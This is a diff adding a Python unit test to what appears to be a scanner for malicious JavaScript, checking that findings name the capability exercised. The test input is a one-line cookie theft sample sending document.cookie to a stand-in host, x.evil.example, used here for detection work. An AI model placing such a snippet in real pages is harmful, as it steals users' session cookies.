@@ -111,3 +111,10 @@ def test_page_listener_for_input_events_only() -> None:
     assert _cats(_findings("window.addEventListener('keypress', log);")) == {Category.DOM_ESCAPE}
     assert _findings("window.addEventListener('scroll', onScroll);") == []
     assert _cats(_findings("document.onkeydown = log;")) == {Category.DOM_ESCAPE}
+
+
+def test_findings_name_the_capability_they_exercise() -> None:
+    findings = _findings("var c = document.cookie; fetch('https://x.evil.example/?' + c);")
+    caps = {f.rule_id: dict(f.details).get("capability") for f in findings}
+    assert caps["js-cookie-access"] == "cookies"
+    assert caps["js-network-request"] == "network"
